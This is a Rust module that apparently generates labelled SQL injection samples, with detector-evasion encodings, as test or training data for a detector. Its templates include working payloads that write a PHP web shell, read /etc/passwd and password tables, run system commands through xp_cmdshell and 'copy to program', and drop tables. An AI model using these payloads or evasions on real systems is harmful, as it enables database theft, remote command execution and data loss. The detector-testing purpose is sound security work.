//! Attack grammar: technique templates per dialect, breakout prefixes, terminators and
//! obfuscations, rendered into payloads as they would arrive in a request parameter.
//!
//! Templates use placeholders: `{p}` breakout prefix (quote or numeric slot, per template),
//! `{c}` comment terminator for the dialect, `{s:text}` a string literal (which the
//! `hex` obfuscation re-spells as `0x..`, `char(..)` or `chr(..)||..`), `{n}` a small number,
//! `{d}` a delay in seconds, `{big}` a large loop count, `{ms}` an MSSQL delay literal,
//! `{tbl}`, `{col}`, `{user}`, `{info}` (a server-identity expression) and `{cols}` (a union
//! select list).

use rand::Rng;
use rand_chacha::ChaCha8Rng;

use super::{Category, Label, Sample};

/// Injection technique (ground truth of the generator, independent of what SQLGuard infers).
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Technique {
    /// Always-true conditions.
    Tautology,
    /// `union select` exfiltration.
    Union,
    /// Data leaked through error messages.
    ErrorBased,
    /// True/false probing.
    BooleanBlind,
    /// Delay probing.
    TimeBlind,
    /// A second statement after `;`.
    Stacked,
    /// Cutting the rest of the query with a comment.
    CommentTruncation,
}

impl Technique {
    /// Every technique.
    pub const ALL: [Technique; 7] = [
        Technique::Tautology,
        Technique::Union,
        Technique::ErrorBased,
        Technique::BooleanBlind,
        Technique::TimeBlind,
        Technique::Stacked,
        Technique::CommentTruncation,
    ];

    /// Label used in categories.
    pub const fn as_str(self) -> &'static str {
        match self {
            Technique::Tautology => "tautology",
            Technique::Union => "union",
            Technique::ErrorBased => "error",
            Technique::BooleanBlind => "boolean",
            Technique::TimeBlind => "time",
            Technique::Stacked => "stacked",
            Technique::CommentTruncation => "comment",
        }
    }
}

/// Target database.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Dialect {
    /// PostgreSQL.
    Postgres,
    /// MySQL / MariaDB.
    Mysql,
    /// Microsoft SQL Server.
    Mssql,
    /// SQLite.
    Sqlite,
    /// Oracle.
    Oracle,
}

impl Dialect {
    /// Every dialect.
    pub const ALL: [Dialect; 5] = [
        Dialect::Postgres,
        Dialect::Mysql,
        Dialect::Mssql,
        Dialect::Sqlite,
        Dialect::Oracle,
    ];

    /// Label used in categories.
    pub const fn as_str(self) -> &'static str {
        match self {
            Dialect::Postgres => "postgres",
            Dialect::Mysql => "mysql",
            Dialect::Mssql => "mssql",
            Dialect::Sqlite => "sqlite",
            Dialect::Oracle => "oracle",
        }
    }

    const fn bit(self) -> u8 {
        match self {
            Dialect::Postgres => PG,
            Dialect::Mysql => MY,
            Dialect::Mssql => MS,
            Dialect::Sqlite => LT,
            Dialect::Oracle => OR,
        }
    }
}

/// Evasion applied to a rendered payload.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Obfuscation {
    /// Plain payload.
    None,
    /// Random upper/lower case per letter.
    CaseMix,
    /// Spaces replaced by tabs, newlines, runs of spaces or `/**/`.
    Whitespace,
    /// Keywords split by empty comments (`UN/**/ION`) and spaces as `/**/`.
    InlineComment,
    /// MySQL versioned comments around keywords (`/*!50000UNION*/`).
    Versioned,
    /// String literals spelled as hex or `char()` expressions.
    Hex,
    /// URL encoding of every non-alphanumeric byte (`+` or `%20` for spaces).
    Url,
    /// URL encoding applied twice (`%2527`).
    DoubleUrl,
    /// `%uXXXX` escapes for punctuation.
    Unicode,
    /// HTML numeric entities for punctuation.
    Html,
}

impl Obfuscation {
    /// Label used in categories.
    pub const fn as_str(self) -> &'static str {
        match self {
            Obfuscation::None => "plain",
            Obfuscation::CaseMix => "case",
            Obfuscation::Whitespace => "whitespace",
            Obfuscation::InlineComment => "inline-comment",
            Obfuscation::Versioned => "versioned",
            Obfuscation::Hex => "hex",
            Obfuscation::Url => "url",
            Obfuscation::DoubleUrl => "double-url",
            Obfuscation::Unicode => "unicode",
            Obfuscation::Html => "html",
        }
    }
}

const PG: u8 = 1;
const MY: u8 = 2;
const MS: u8 = 4;
const LT: u8 = 8;
const OR: u8 = 16;
const ALL: u8 = PG | MY | MS | LT | OR;

/// Which slot a template's prefix breaks out of.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Slot {
    /// A quoted string: `'`, `admin'`, `')`...
    Str,
    /// A numeric slot: `1`, `-1`, `1)`...
    Num,
    /// Either, chosen at random.
    Any,
    /// The template carries its own start.
    Raw,
}

use Technique as T;

type Template = (Technique, u8, Slot, &'static str);

static TEMPLATES: &[Template] = &[
    // tautologies
    (T::Tautology, ALL, Slot::Str, "{p} or {s:1}={s:1}{c}"),
    (T::Tautology, ALL, Slot::Str, "{p} or 1=1{c}"),
    (T::Tautology, ALL, Slot::Str, "{p} or 'a'='a"),
    (T::Tautology, ALL, Slot::Str, "{p} or ''='"),
    (T::Tautology, ALL, Slot::Str, "{p} or 1=1 or ''='"),
    (T::Tautology, ALL, Slot::Str, "{p} or {n}={n}{c}"),
    (T::Tautology, MY | PG | LT, Slot::Str, "{p} or true{c}"),
    (T::Tautology, ALL, Slot::Str, "{p} or 2>1{c}"),
    (T::Tautology, ALL, Slot::Str, "{p} or {s:x} like {s:x}{c}"),
    (T::Tautology, MY, Slot::Str, "{p} || 1=1{c}"),
    (T::Tautology, ALL, Slot::Str, "{p} or not 1=2{c}"),
    (T::Tautology, ALL, Slot::Str, "{p} or 1 in (1){c}"),
    (T::Tautology, ALL, Slot::Str, "{p} or 3-1=2{c}"),
    (T::Tautology, ALL, Slot::Str, "{p} or {col} is not null{c}"),
    (T::Tautology, ALL, Slot::Str, "{p} or 'a'='a' and ''='"),
    (T::Tautology, MY, Slot::Raw, "'='"),
    (T::Tautology, MY, Slot::Raw, "'=' or '"),
    (T::Tautology, MY, Slot::Raw, "'=0{c}"),
    (T::Tautology, ALL, Slot::Num, "{p} or 1=1"),
    (T::Tautology, ALL, Slot::Num, "{p} or 1=1{c}"),
    (T::Tautology, ALL, Slot::Num, "{p} or {n}={n}"),
    (T::Tautology, MY | PG | LT, Slot::Num, "{p} or true"),
    (T::Tautology, ALL, Slot::Num, "{p}) or (1=1"),
    (T::Tautology, ALL, Slot::Num, "{p} or 'a'='a'"),
    (T::Tautology, ALL, Slot::Num, "{p} or 1 like 1{c}"),
    (T::Tautology, MY, Slot::Num, "{p} || 1=1"),
    // union
    (T::Union, ALL, Slot::Any, "{p} union select {cols}{c}"),
    (T::Union, ALL, Slot::Any, "{p} union all select {cols}{c}"),
    (
        T::Union,
        ALL,
        Slot::Any,
        "{p} union select {cols} from {tbl}{c}",
    ),
    (
        T::Union,
        ALL,
        Slot::Any,
        "{p} union select {col},{col} from {tbl}{c}",
    ),
    (T::Union, ALL, Slot::Any, "{p} union (select {cols}){c}"),
    (
        T::Union,
        ALL,
        Slot::Any,
        "{p} and 1=2 union select {cols}{c}",
    ),
    (
        T::Union,
        ALL,
        Slot::Any,
        "{p} union select {col} from {tbl} where {col}={s:admin}{c}",
    ),
    (
        T::Union,
        MY,
        Slot::Any,
        "{p} union select table_name,{n} from information_schema.tables{c}",
    ),
    (
        T::Union,
        MY,
        Slot::Any,
        "{p} union select group_concat({col},0x3a,{col}),{n} from {tbl}{c}",
    ),
    (
        T::Union,
        MY,
        Slot::Any,
        "{p} union select @@version,user(),database(){c}",
    ),
    (
        T::Union,
        MY,
        Slot::Any,
        "{p} union select load_file({s:/etc/passwd}),null{c}",
    ),
    (
        T::Union,
        MY,
        Slot::Any,
        "{p} union select {s:<?php system($_GET[c]); ?>},null into outfile {s:/var/www/s.php}{c}",
    ),
    (
        T::Union,
        MY,
        Slot::Any,
        "{p} union select column_name from information_schema.columns where table_name={s:users}{c}",
    ),
    (
        T::Union,
        PG,
        Slot::Any,
        "{p} union select null,version(){c}",
    ),
    (
        T::Union,
        PG,
        Slot::Any,
        "{p} union select usename,passwd from pg_shadow{c}",
    ),
    (
        T::Union,
        PG,
        Slot::Any,
        "{p} union select null,current_database(),current_user{c}",
    ),
    (
        T::Union,
        PG,
        Slot::Any,
        "{p} union select string_agg(tablename,{s:,}),null from pg_tables{c}",
    ),
    (
        T::Union,
        MS,
        Slot::Any,
        "{p} union select name,null from master..sysdatabases{c}",
    ),
    (
        T::Union,
        MS,
        Slot::Any,
        "{p} union select @@version,null{c}",
    ),
    (
        T::Union,
        MS,
        Slot::Any,
        "{p} union select top 1 name from sysobjects where xtype={s:U}{c}",
    ),
    (
        T::Union,
        MS,
        Slot::Any,
        "{p} union all select null,system_user,db_name(){c}",
    ),
    (
        T::Union,
        LT,
        Slot::Any,
        "{p} union select sql,null from sqlite_master{c}",
    ),
    (
        T::Union,
        LT,
        Slot::Any,
        "{p} union select name,{n} from sqlite_master where type={s:table}{c}",
    ),
    (
        T::Union,
        LT,
        Slot::Any,
        "{p} union select sqlite_version(),null{c}",
    ),
    (
        T::Union,
        OR,
        Slot::Any,
        "{p} union select banner,null from v$version{c}",
    ),
    (
        T::Union,
        OR,
        Slot::Any,
        "{p} union select null,null from dual{c}",
    ),
    (
        T::Union,
        OR,
        Slot::Any,
        "{p} union select table_name,null from all_tables{c}",
    ),
    (
        T::Union,
        OR,
        Slot::Any,
        "{p} union select username,password from dba_users{c}",
    ),
    // error-based
    (
        T::ErrorBased,
        MY,
        Slot::Any,
        "{p} and extractvalue(1,concat(0x7e,(select {info}))){c}",
    ),
    (
        T::ErrorBased,
        MY,
        Slot::Any,
        "{p} and updatexml(1,concat(0x7e,{info}),1){c}",
    ),
    (
        T::ErrorBased,
        MY,
        Slot::Any,
        "{p} and (select 1 from (select count(*),concat({info},floor(rand(0)*2))x from information_schema.tables group by x)a){c}",
    ),
    (
        T::ErrorBased,
        MY,
        Slot::Any,
        "{p} and exp(~(select * from (select {info})x)){c}",
    ),
    (
        T::ErrorBased,
        MY,
        Slot::Any,
        "{p} or extractvalue(rand(),concat(0x3a,(select {col} from {tbl} limit 1))){c}",
    ),
    (
        T::ErrorBased,
        MY,
        Slot::Any,
        "{p} and geometrycollection((select * from(select * from(select {info})a)b)){c}",
    ),
    (
        T::ErrorBased,
        MS,
        Slot::Any,
        "{p} and 1=convert(int,@@version){c}",
    ),
    (
        T::ErrorBased,
        MS,
        Slot::Any,
        "{p} and 1=convert(int,(select top 1 {col} from {tbl})){c}",
    ),
    (
        T::ErrorBased,
        MS,
        Slot::Any,
        "{p} and 1=cast(@@version as int){c}",
    ),
    (
        T::ErrorBased,
        MS,
        Slot::Any,
        "{p} and 1=convert(int,db_name()){c}",
    ),
    (
        T::ErrorBased,
        PG,
        Slot::Any,
        "{p} and 1=cast(version() as int){c}",
    ),
    (
        T::ErrorBased,
        PG,
        Slot::Any,
        "{p} and 1=cast((select {col} from {tbl} limit 1) as integer){c}",
    ),
    (
        T::ErrorBased,
        PG,
        Slot::Any,
        "{p} and 1=(select cast(current_user as numeric)){c}",
    ),
    (
        T::ErrorBased,
        OR,
        Slot::Any,
        "{p} and 1=utl_inaddr.get_host_name((select banner from v$version where rownum=1)){c}",
    ),
    (
        T::ErrorBased,
        OR,
        Slot::Any,
        "{p} and 1=ctxsys.drithsx.sn(1,(select user from dual)){c}",
    ),
    (
        T::ErrorBased,
        OR,
        Slot::Any,
        "{p} and (select upper(xmltype(chr(60)||chr(58)||(select user from dual)||chr(62))) from dual) is not null{c}",
    ),
    (
        T::ErrorBased,
        LT,
        Slot::Any,
        "{p} and 1=cast(sqlite_version() as int){c}",
    ),
    (
        T::ErrorBased,
        LT,
        Slot::Any,
        "{p} and load_extension({s:x}){c}",
    ),
    // boolean blind
    (T::BooleanBlind, ALL, Slot::Any, "{p} and 1=1{c}"),
    (T::BooleanBlind, ALL, Slot::Any, "{p} and 1=2{c}"),
    (T::BooleanBlind, ALL, Slot::Num, "{p} and {n}={n}"),
    (T::BooleanBlind, ALL, Slot::Str, "{p} and 'a'='a"),
    (T::BooleanBlind, ALL, Slot::Str, "{p} and 'a'='b"),
    (
        T::BooleanBlind,
        ALL,
        Slot::Any,
        "{p} and (select count(*) from {tbl})>0{c}",
    ),
    (
        T::BooleanBlind,
        ALL,
        Slot::Any,
        "{p} and exists(select * from {tbl}){c}",
    ),
    (T::BooleanBlind, ALL, Slot::Any, "{p} and {s:a}={s:b}{c}"),
    (
        T::BooleanBlind,
        ALL,
        Slot::Any,
        "{p} and case when 1=1 then 1 else 0 end=1{c}",
    ),
    (
        T::BooleanBlind,
        MY,
        Slot::Any,
        "{p} and length(database())>{n}{c}",
    ),
    (
        T::BooleanBlind,
        MY,
        Slot::Any,
        "{p} and ascii(substring((select {col} from {tbl} limit 1),{n},1))>{n}{c}",
    ),
    (
        T::BooleanBlind,
        MY,
        Slot::Any,
        "{p} and substring(version(),1,1)={s:5}{c}",
    ),
    (
        T::BooleanBlind,
        MY,
        Slot::Any,
        "{p} and (select substring({col},1,1) from {tbl} limit 1)={s:a}{c}",
    ),
    (T::BooleanBlind, MY, Slot::Any, "{p} and if(1=1,1,0){c}"),
    (
        T::BooleanBlind,
        PG,
        Slot::Any,
        "{p} and (select substr(current_user,1,1))={s:p}{c}",
    ),
    (
        T::BooleanBlind,
        PG,
        Slot::Any,
        "{p} and ascii(substr((select {col} from {tbl} limit 1),1,1))>{n}{c}",
    ),
    (
        T::BooleanBlind,
        MS,
        Slot::Any,
        "{p} and substring(@@version,1,1)={s:M}{c}",
    ),
    (
        T::BooleanBlind,
        MS,
        Slot::Any,
        "{p} and len(db_name())>{n}{c}",
    ),
    (
        T::BooleanBlind,
        MS,
        Slot::Any,
        "{p} and (select top 1 len({col}) from {tbl})>{n}{c}",
    ),
    (
        T::BooleanBlind,
        LT,
        Slot::Any,
        "{p} and substr(sqlite_version(),1,1)={s:3}{c}",
    ),
    (
        T::BooleanBlind,
        LT,
        Slot::Any,
        "{p} and (select count(*) from sqlite_master)>{n}{c}",
    ),
    (
        T::BooleanBlind,
        OR,
        Slot::Any,
        "{p} and (select substr(banner,1,1) from v$version where rownum=1)={s:O}{c}",
    ),
    (
        T::BooleanBlind,
        OR,
        Slot::Any,
        "{p} and length(user)>{n}{c}",
    ),
    // time-based blind
    (T::TimeBlind, MY, Slot::Any, "{p} and sleep({d}){c}"),
    (T::TimeBlind, MY, Slot::Any, "{p} or sleep({d}){c}"),
    (
        T::TimeBlind,
        MY,
        Slot::Any,
        "{p} and if(1=1,sleep({d}),0){c}",
    ),
    (
        T::TimeBlind,
        MY,
        Slot::Any,
        "{p} and (select * from (select(sleep({d})))a){c}",
    ),
    (
        T::TimeBlind,
        MY,
        Slot::Num,
        "{p} and benchmark({big},md5({n}))",
    ),
    (T::TimeBlind, MY, Slot::Str, "{p} and sleep({d}) and '1'='1"),
    (T::TimeBlind, MY, Slot::Any, "{p} xor sleep({d}){c}"),
    (
        T::TimeBlind,
        MY,
        Slot::Raw,
        "if(now()=sysdate(),sleep({d}),0)",
    ),
    (
        T::TimeBlind,
        MY,
        Slot::Raw,
        "(select(0)from(select(sleep({d})))v)",
    ),
    (T::TimeBlind, PG, Slot::Any, "{p}; select pg_sleep({d}){c}"),
    (
        T::TimeBlind,
        PG,
        Slot::Any,
        "{p} and 1=(select 1 from pg_sleep({d})){c}",
    ),
    (T::TimeBlind, PG, Slot::Str, "{p} || pg_sleep({d}){c}"),
    (
        T::TimeBlind,
        PG,
        Slot::Any,
        "{p} and (select 1 from pg_sleep_for({s:5 seconds})) is null{c}",
    ),
    (T::TimeBlind, MS, Slot::Any, "{p}; waitfor delay {ms}{c}"),
    (T::TimeBlind, MS, Slot::Any, "{p} waitfor delay {ms}{c}"),
    (
        T::TimeBlind,
        MS,
        Slot::Any,
        "{p}; if (1=1) waitfor delay {ms}{c}",
    ),
    (
        T::TimeBlind,
        MS,
        Slot::Any,
        "{p}; if (select count(*) from {tbl})>0 waitfor delay {ms}{c}",
    ),
    (
        T::TimeBlind,
        OR,
        Slot::Any,
        "{p} and 1=dbms_pipe.receive_message({s:a},{d}){c}",
    ),
    (
        T::TimeBlind,
        OR,
        Slot::Str,
        "{p} || dbms_pipe.receive_message({s:x},{d}){c}",
    ),
    (
        T::TimeBlind,
        OR,
        Slot::Any,
        "{p}; begin dbms_lock.sleep({d}); end;{c}",
    ),
    (
        T::TimeBlind,
        LT,
        Slot::Any,
        "{p} and 1=randomblob({big}){c}",
    ),
    (
        T::TimeBlind,
        LT,
        Slot::Any,
        "{p} and 1=like({s:abcdefg},upper(hex(randomblob({big}/2)))){c}",
    ),
    // stacked queries
    (T::Stacked, ALL, Slot::Any, "{p}; drop table {tbl}{c}"),
    (T::Stacked, ALL, Slot::Any, "{p}; delete from {tbl}{c}"),
    (
        T::Stacked,
        ALL,
        Slot::Any,
        "{p}; update {tbl} set {col}={s:admin} where {col}={n}{c}",
    ),
    (
        T::Stacked,
        ALL,
        Slot::Any,
        "{p}; insert into {tbl} values({s:x},{s:y}){c}",
    ),
    (T::Stacked, ALL, Slot::Any, "{p}; select * from {tbl}{c}"),
    (
        T::Stacked,
        MY | PG | MS,
        Slot::Any,
        "{p}; create table {tbl}_bak(t text){c}",
    ),
    (
        T::Stacked,
        MS,
        Slot::Any,
        "{p}; exec xp_cmdshell {s:whoami}{c}",
    ),
    (
        T::Stacked,
        MS,
        Slot::Any,
        "{p}; exec master..xp_cmdshell {s:ping -n 5 127.0.0.1}{c}",
    ),
    (T::Stacked, MS, Slot::Any, "{p}; shutdown{c}"),
    (
        T::Stacked,
        MS,
        Slot::Any,
        "{p}; declare @q varchar(99); set @q={s:x}; exec(@q){c}",
    ),
    (
        T::Stacked,
        MS,
        Slot::Any,
        "{p}; exec sp_configure {s:show advanced options},1; reconfigure{c}",
    ),
    (
        T::Stacked,
        PG,
        Slot::Any,
        "{p}; copy (select '') to program {s:id}{c}",
    ),
    (
        T::Stacked,
        PG,
        Slot::Any,
        "{p}; create table cmd(o text); copy cmd from program {s:id}{c}",
    ),
    (
        T::Stacked,
        LT,
        Slot::Any,
        "{p}; attach database {s:/tmp/x.db} as x{c}",
    ),
    (T::Stacked, MY, Slot::Any, "{p}; truncate table {tbl}{c}"),
    // comment truncation
    (T::CommentTruncation, ALL, Slot::Raw, "{user}'{c}"),
    (T::CommentTruncation, ALL, Slot::Raw, "{user}'){c}"),
    (T::CommentTruncation, MY, Slot::Raw, "{user}'#"),
    (T::CommentTruncation, ALL, Slot::Raw, "{user}'/*"),
    (T::CommentTruncation, ALL, Slot::Raw, "{user}';{c}"),
    (T::CommentTruncation, MY, Slot::Raw, "{user}\"{c}"),
];

const STR_PREFIXES: &[&str] = &[
    "'", "1'", "admin'", "x'", "test'", "')", "'))", "1')", "abc'", "%'", "john'",
];
const DQ_PREFIXES: &[&str] = &["\"", "1\"", "\")", "admin\""];
const NUM_PREFIXES: &[&str] = &["1", "-1", "0", "1)", "1))", "{n}", "9999", "-{n}", "2"];
const TABLES: &[&str] = &[
    "users",
    "accounts",
    "admin",
    "members",
    "customers",
    "orders",
    "products",
    "employees",
    "login",
    "user_data",
    "tblusers",
    "wp_users",
];
const COLUMNS: &[&str] = &[
    "username",
    "password",
    "passwd",
    "email",
    "pass",
    "name",
    "id",
    "credit_card",
    "secret",
    "token",
    "hash",
    "login",
];
const USERS: &[&str] = &[
    "admin",
    "administrator",
    "root",
    "alice",
    "bob",
    "test",
    "guest",
    "sa",
    "user1",
    "dbadmin",
];

fn pick<'a, T>(rng: &mut ChaCha8Rng, items: &'a [T]) -> &'a T {
    &items[rng.random_range(0..items.len())]
}

fn word(rng: &mut ChaCha8Rng, items: &[&'static str]) -> &'static str {
    items[rng.random_range(0..items.len())]
}

fn comments(dialect: Dialect) -> &'static [&'static str] {
    match dialect {
        Dialect::Mysql => &["--", "-- -", "#", "--+", "/*", "-- ", ";--", "-- a"],
        Dialect::Postgres | Dialect::Sqlite => &["--", "/*", "-- ", ";--", "--x"],
        Dialect::Mssql => &["--", "-- ", "/*", ";--"],
        Dialect::Oracle => &["--", "-- "],
    }
}

fn info(dialect: Dialect) -> &'static [&'static str] {
    match dialect {
        Dialect::Mysql => &[
            "version()",
            "user()",
            "database()",
            "@@version",
            "@@datadir",
        ],
        Dialect::Postgres => &["version()", "current_user", "current_database()"],
        Dialect::Mssql => &["@@version", "db_name()", "system_user", "host_name()"],
        Dialect::Sqlite => &["sqlite_version()"],
        Dialect::Oracle => &["user", "(select banner from v$version where rownum=1)"],
    }
}

/// Spells a string literal as an expression without quotes, as the `hex` evasion does.
fn encode_literal(rng: &mut ChaCha8Rng, dialect: Dialect, text: &str) -> String {
    let hex: String = text.bytes().map(|b| format!("{b:02x}")).collect();
    let codes: Vec<String> = text.bytes().map(|b| b.to_string()).collect();
    match dialect {
        Dialect::Mysql if rng.random_bool(0.5) => format!("0x{hex}"),
        Dialect::Mysql | Dialect::Sqlite => format!("char({})", codes.join(",")),
        Dialect::Mssql if rng.random_bool(0.5) => format!("0x{hex}"),
        Dialect::Mssql => codes
            .iter()
            .map(|c| format!("char({c})"))
            .collect::<Vec<_>>()
            .join("+"),
        Dialect::Postgres | Dialect::Oracle => codes
            .iter()
            .map(|c| format!("chr({c})"))
            .collect::<Vec<_>>()
            .join("||"),
    }
}

struct Render<'r> {
    rng: &'r mut ChaCha8Rng,
    dialect: Dialect,
    slot: Slot,
    hex: bool,
    quote: char,
}

impl Render<'_> {
    fn placeholder(&mut self, name: &str, out: &mut String) {
        let d = self.dialect;
        match name {
            "p" => {
                let prefix = match self.slot {
                    Slot::Str => {
                        if self.quote == '"' {
                            *pick(self.rng, DQ_PREFIXES)
                        } else {
                            *pick(self.rng, STR_PREFIXES)
                        }
                    }
                    _ => *pick(self.rng, NUM_PREFIXES),
                };
                self.expand(prefix, out);
            }
            "c" => out.push_str(word(self.rng, comments(d))),
            "n" => out.push_str(&self.rng.random_range(1..=100).to_string()),
            "d" => out.push_str(&self.rng.random_range(2..=15).to_string()),
            "big" => out.push_str(&(self.rng.random_range(1..=50) * 1_000_000).to_string()),
            "ms" => out.push_str(&format!("'0:0:{}'", self.rng.random_range(2..=15))),
            "tbl" => out.push_str(word(self.rng, TABLES)),
            "col" => out.push_str(word(self.rng, COLUMNS)),
            "user" => out.push_str(word(self.rng, USERS)),
            "info" => {
                let i = *pick(self.rng, info(d));
                out.push_str(i);
            }
            "cols" => {
                let count = self.rng.random_range(1..=6);
                for i in 0..count {
                    if i > 0 {
                        out.push(',');
                    }
                    match self.rng.random_range(0..5) {
                        0 | 1 => out.push_str("null"),
                        2 => out.push_str(&(i + 1).to_string()),
                        3 => out.push_str(word(self.rng, COLUMNS)),
                        _ => {
                            let i = *pick(self.rng, info(d));
                            out.push_str(i);
                        }
                    }
                }
            }
            literal => {
                let text = literal.strip_prefix("s:").unwrap_or(literal);
                if self.hex {
                    out.push_str(&encode_literal(self.rng, d, text));
                } else {
                    out.push('\'');
                    out.push_str(text);
                    out.push('\'');
                }
            }
        }
    }

    fn expand(&mut self, template: &str, out: &mut String) {
        let mut rest = template;
        while let Some(open) = rest.find('{') {
            out.push_str(&rest[..open]);
            let after = &rest[open + 1..];
            match after.find('}') {
                Some(close) => {
                    self.placeholder(&after[..close], out);
                    rest = &after[close + 1..];
                }
                None => {
                    out.push_str(&rest[open..]);
                    rest = "";
                }
            }
        }
        out.push_str(rest);
    }
}

fn case_mix(rng: &mut ChaCha8Rng, s: &str) -> String {
    s.chars()
        .map(|c| {
            if rng.random_bool(0.5) {
                c.to_ascii_uppercase()
            } else {
                c
            }
        })
        .collect()
}

fn replace_spaces(rng: &mut ChaCha8Rng, s: &str, choices: &[&str]) -> String {
    let fixed = rng.random_bool(0.5).then(|| *pick(rng, choices));
    let mut out = String::with_capacity(s.len() * 2);
    for c in s.chars() {
        if c == ' ' {
            out.push_str(fixed.unwrap_or_else(|| *pick(rng, choices)));
        } else {
            out.push(c);
        }
    }
    out
}

fn split_keywords(rng: &mut ChaCha8Rng, s: &str) -> String {
    let mut out = s.to_string();
    for kw in ["union", "select", "from", "where", "sleep"] {
        if rng.random_bool(0.7) {
            let mid = kw.len() / 2;
            out = out.replace(kw, &format!("{}/**/{}", &kw[..mid], &kw[mid..]));
        }
    }
    out
}

fn versioned(rng: &mut ChaCha8Rng, s: &str) -> String {
    let mut out = s.to_string();
    for kw in ["union", "select", "and", "or", "from", "sleep"] {
        let version = if rng.random_bool(0.5) { "50000" } else { "" };
        out = out.replace(&format!(" {kw} "), &format!(" /*!{version}{kw}*/ "));
    }
    out
}

fn url_encode(s: &str, plus_for_space: bool, everything: bool) -> String {
    let mut out = String::with_capacity(s.len() * 3);
    for b in s.bytes() {
        match b {
            b' ' if plus_for_space => out.push('+'),
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'_' | b'.' if !everything => {
                out.push(b as char)
            }
            _ => out.push_str(&format!("%{b:02X}")),
        }
    }
    out
}

fn escape_punct(s: &str, html: bool) -> String {
    let mut out = String::with_capacity(s.len() * 4);
    for c in s.chars() {
        if c.is_ascii_punctuation() || c == ' ' {
            if html {
                out.push_str(&format!("&#{};", c as u32));
            } else {
                out.push_str(&format!("%u{:04X}", c as u32));
            }
        } else {
            out.push(c);
        }
    }
    out
}

fn choose_obfuscation(rng: &mut ChaCha8Rng, dialect: Dialect, has_literal: bool) -> Obfuscation {
    loop {
        let o = match rng.random_range(0..100) {
            0..40 => Obfuscation::None,
            40..52 => Obfuscation::CaseMix,
            52..60 => Obfuscation::Whitespace,
            60..66 => Obfuscation::InlineComment,
            66..70 => Obfuscation::Versioned,
            70..78 => Obfuscation::Hex,
            78..88 => Obfuscation::Url,
            88..93 => Obfuscation::DoubleUrl,
            93..96 => Obfuscation::Unicode,
            _ => Obfuscation::Html,
        };
        let fits = match o {
            Obfuscation::Versioned => dialect == Dialect::Mysql,
            Obfuscation::Hex => has_literal,
            _ => true,
        };
        if fits {
            return o;
        }
    }
}

/// Generates one attack payload.
pub fn generate(rng: &mut ChaCha8Rng) -> Sample {
    let technique = *pick(rng, &Technique::ALL);
    let dialect = *pick(rng, &Dialect::ALL);
    let candidates = TEMPLATES
        .iter()
        .filter(|t| t.0 == technique && t.1 & dialect.bit() != 0);
    let count = candidates.clone().count();
    let index = rng.random_range(0..count.max(1));
    let Some(&(_, _, slot, template)) = candidates.clone().nth(index) else {
        // Every technique has an all-dialect template, so this is unreachable; fall back to a
        // classic payload rather than panic.
        return Sample {
            text: "1' or '1'='1".to_string(),
            label: Label::Attack,
            category: Category::Attack {
                technique: Technique::Tautology,
                dialect,
                obfuscation: Obfuscation::None,
            },
        };
    };
    let slot = match slot {
        Slot::Any if rng.random_bool(0.5) => Slot::Str,
        Slot::Any => Slot::Num,
        other => other,
    };
    let double_ok = matches!(dialect, Dialect::Mysql | Dialect::Sqlite);
    let quote = if slot == Slot::Str && double_ok && rng.random_bool(0.15) {
        '"'
    } else {
        '\''
    };
    let obfuscation = choose_obfuscation(rng, dialect, template.contains("{s:"));
    let mut text = String::with_capacity(template.len() + 32);
    Render {
        rng,
        dialect,
        slot,
        hex: obfuscation == Obfuscation::Hex,
        quote,
    }
    .expand(template, &mut text);
    if quote == '"' {
        text = text.replace('\'', "\"");
    }
    if rng.random_bool(0.3) {
        // Many payloads are typed in upper case.
        text = text.to_ascii_uppercase();
    }
    let text = match obfuscation {
        Obfuscation::None | Obfuscation::Hex => text,
        Obfuscation::CaseMix => case_mix(rng, &text),
        Obfuscation::Whitespace => replace_spaces(
            rng,
            &text,
            &["\t", "\n", "  ", "/**/", "\r\n", "\u{a0}", " \t "],
        ),
        Obfuscation::InlineComment => {
            let split = split_keywords(rng, &text.to_ascii_lowercase());
            replace_spaces(rng, &split, &["/**/", "/*x*/", "/**/ "])
        }
        Obfuscation::Versioned => versioned(rng, &text.to_ascii_lowercase()),
        Obfuscation::Url => {
            let plus = rng.random_bool(0.5);
            let all = rng.random_bool(0.2);
            url_encode(&text, plus, all)
        }
        Obfuscation::DoubleUrl => url_encode(&url_encode(&text, false, false), false, false),
        Obfuscation::Unicode => escape_punct(&text, false),
        Obfuscation::Html => escape_punct(&text, true),
    };
    Sample {
        text,
        label: Label::Attack,
        category: Category::Attack {
            technique,
            dialect,
            obfuscation,
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    #[test]
    fn every_technique_has_a_template_for_every_dialect() {
        for t in Technique::ALL {
            for d in Dialect::ALL {
                assert!(
                    TEMPLATES.iter().any(|x| x.0 == t && x.1 & d.bit() != 0),
                    "{t:?} {d:?}"
                );
            }
        }
    }

    #[test]
    fn placeholders_are_all_expanded() {
        let mut rng = ChaCha8Rng::seed_from_u64(5);
        for _ in 0..3000 {
            let s = generate(&mut rng);
            if let Category::Attack {
                obfuscation: Obfuscation::None,
                ..
            } = s.category
            {
                assert!(!s.text.contains("{"), "{}", s.text);
            }
        }
    }

    #[test]
    fn hex_literals() {
        let mut rng = ChaCha8Rng::seed_from_u64(1);
        let e = encode_literal(&mut rng, Dialect::Postgres, "ab");
        assert_eq!(e, "chr(97)||chr(98)");
        assert_eq!(url_encode("' or 1", true, false), "%27+or+1");
    }
}
